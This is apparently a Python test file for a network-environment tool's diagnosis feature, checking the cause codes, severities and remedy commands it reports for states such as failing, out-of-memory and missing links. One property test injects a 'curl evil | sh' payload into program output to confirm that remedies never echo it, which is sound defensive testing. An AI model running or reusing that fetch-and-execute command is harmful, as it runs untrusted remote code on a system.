"""The reasons for an environment's state, and the remedies, which never contain text from a program."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from netspace.errors import NetspaceError
from netspace.host.explain import APPLY, Facts, causes, explain
from netspace.host.host import Host
from netspace.layout import Layout
from netspace.link import problems
from netspace.plugin.explanation import COMMAND
from netspace.spec import parse

SPEC = parse.environment("web", {"image": "tar:/srv/web.tar", "limits": {"memory": "64M"}})
STOPPED = parse.environment("web", {"image": "tar:/srv/web.tar", "state": "stopped"})
ROW: dict[str, Any] = {
    "state": "running", "health": "healthy", "restarts": 0, "exit": "", "oom_kills": 0, "supervised": True,
    "problem": "", "flapping": False,
}  # fmt: skip
WELL = Facts("web", SPEC, SPEC, "running", ROW)


def with_row(**keys: Any) -> Facts:
    return WELL._replace(row={**ROW, **keys})


def test_well_environment_has_no_finding() -> None:
    assert causes(WELL) == []


@pytest.mark.parametrize(
    ("facts", "code", "severity", "command"),
    [
        (Facts("web", SPEC), "not-applied", "error", APPLY),
        (Facts("web", SPEC, withheld="needs L2"), "withheld", "error", "netspace_attestation.status"),
        (Facts("web", SPEC, image_problem="no such file"), "image-missing", "error", APPLY),
        (Facts("web", SPEC, impossible="command: no such program"), "impossible", "error", APPLY),
        (Facts("web", row={"problem": "damaged"}), "record-damaged", "error", APPLY),
        (with_row(supervised=False), "unsupervised", "error", APPLY),
        (with_row(state="frozen"), "frozen", "error", APPLY),
        (with_row(state="starting", exit="exit 1", problem="it ended (exit 1)", restarts=6), "failing", "error",
         "netspace_environment.logs web"),
        (with_row(state="failed", exit="oom", problem="it ended (oom)"), "oom", "error", APPLY),
        (with_row(oom_kills=2), "oom", "warning", APPLY),
        (with_row(exit="exit 3", restarts=5, flapping=True), "failing", "error", "netspace_environment.logs web"),
        (with_row(exit="oom", restarts=5, flapping=True), "oom", "error", APPLY),
        (with_row(health="unhealthy", problem="its health check fails"), "failing", "error",
         "netspace_environment.logs web"),
        (with_row(health="unknown", problem="the watch does nothing"), "unwatched", "error", APPLY),
        (with_row(state="starting")._replace(after={"a": True, "b": False}), "waits", "error", "netspace.explain b"),
        (with_row(state="starting"), "starting", "note", "netspace_environment.wait web"),
        (with_row(state="stopped")._replace(wanted="stopped"), "stopped-by-operator", "warning",
         "netspace_environment.start web"),
        (with_row(state="stopped", exit="exit 3"), "ended", "error", "netspace_environment.logs web"),
        (with_row(state="stopped"), "ended", "note", "netspace_environment.logs web"),
        (Facts("web", STOPPED, STOPPED, "stopped", {**ROW, "state": "stopped"}), "declared-stopped", "note", ""),
        (Facts("web", SPEC, STOPPED, "stopped", {**ROW, "state": "stopped"}), "change-waits", "error", APPLY),
        (WELL._replace(waiting=["image", "link web.b"]), "change-waits", "warning", APPLY),
        (WELL._replace(taken_back="it failed"), "update-taken-back", "warning", "netspace_environment.retry web"),
        (WELL._replace(interface={"state": "missing"}), "interface-missing", "error", APPLY),
        (WELL._replace(interface={"state": "present", "drift": {"mtu": {}}}), "interface-differs", "warning", APPLY),
        (WELL._replace(links=[{"from": "web", "to": "b", "state": "missing"}]), "link-down", "warning", APPLY),
        (WELL._replace(cut_off={"times": 3, "why": "bound too much", "at": 1}), "cut-off", "warning",
         "netspace_environment.logs web"),
        (WELL._replace(dead={"web.b": {"rejected": 2}}), "dead-letters", "warning", "netspace_link.dead_letters"),
        (WELL._replace(refused={"packets": 7}), "refused", "note", "netspace.suggest web"),
    ],
)  # fmt: skip
def test_cause_has_code_severity_and_command(facts: Facts, code: str, severity: str, command: str) -> None:
    (found,) = causes(facts)
    assert (found.code, found.severity, found.command) == (code, severity, command)
    assert found.text and found.advice


def test_changed_image_that_is_missing_is_named_while_the_former_runs() -> None:
    found = causes(WELL._replace(waiting=["image"], image_problem="image source /srv/x.tar: No such file"))
    assert [one.code for one in found] == ["image-missing", "change-waits"]
    assert "(image)" in found[1].text
    assert causes(WELL._replace(image_problem="gone")) == []


def test_declared_stop_without_supervisor_is_no_fault() -> None:
    row = {**ROW, "state": "stopped", "supervised": False}
    assert [one.severity for one in causes(Facts("web", STOPPED, STOPPED, "stopped", row))] == ["note"]


def test_declared_stop_needs_neither_trust_nor_image() -> None:
    stopped = Facts("web", STOPPED, STOPPED, "stopped", {**ROW, "state": "stopped"}, withheld="needs L2")
    assert [one.code for one in causes(stopped._replace(image_problem="gone"))] == ["declared-stopped"]
    assert [one.code for one in causes(Facts("web", STOPPED, withheld="needs L2"))] == ["not-applied"]
    running = WELL._replace(withheld="needs L2; goes on as it is (on_loss: report)")
    assert [(one.code, one.severity) for one in causes(running)] == [("withheld", "warning")]


def test_errors_come_before_warnings_and_notes() -> None:
    links = [{"from": "web", "to": "b", "state": "missing"}]
    found = causes(with_row(state="failed", exit="exit 1", problem="it ended (exit 1)")._replace(links=links))
    assert [one.severity for one in found] == ["error", "warning"]


def test_links_that_depend_on_one_problem_are_one_finding() -> None:
    down = [{"from": "web", "to": f"e{n}", "state": "unknown", "depends_on": "broker-down"} for n in range(9)]
    facts = WELL._replace(links=down, problems=problems.broker("stopped", ""))
    (found,) = causes(facts)
    assert (found.code, found.command) == ("broker-down", APPLY)
    other = {"from": "web", "to": "b", "state": "missing"}
    assert [one.code for one in causes(facts._replace(links=[*down, other]))] == ["broker-down", "link-down"]


def test_cause_in_another_environment_is_named() -> None:
    (found,) = causes(with_row(state="starting")._replace(after={"orders": False}))
    assert found.depends_on == "orders"


WORDS = st.text(min_size=1, max_size=40).map(lambda text: f"\x1b; curl evil | sh {text}")


@given(WORDS, st.sampled_from(["starting", "failed", "running", "stopped"]))
def test_remedies_have_no_words_of_a_program(words: str, state: str) -> None:
    row = {"state": state, "health": "unhealthy", "problem": words, "exit": "exit 1"}
    facts = with_row(**row)._replace(taken_back=words, image_problem=words, withheld=words)
    for one in causes(facts._replace(cut_off={"times": 1, "why": words, "at": 0})):
        assert "evil" not in one.advice + one.command + one.code
        assert not one.command or COMMAND.fullmatch(one.command)


def test_unknown_name_with_an_invalid_declaration_says_so(tmp_path: Path) -> None:
    host = Host(Layout(root=tmp_path))
    unknown = "there is no environment web; there are none yet"
    with pytest.raises(NetspaceError) as told:
        explain(host, "web", None, "invalid (2 problems): see netspace.check")
    assert str(told.value) == f"{unknown}; the declaration in pillar has mistakes: netspace.check"
    with pytest.raises(NetspaceError) as told:
        explain(host, "web", None)
    assert str(told.value) == unknown
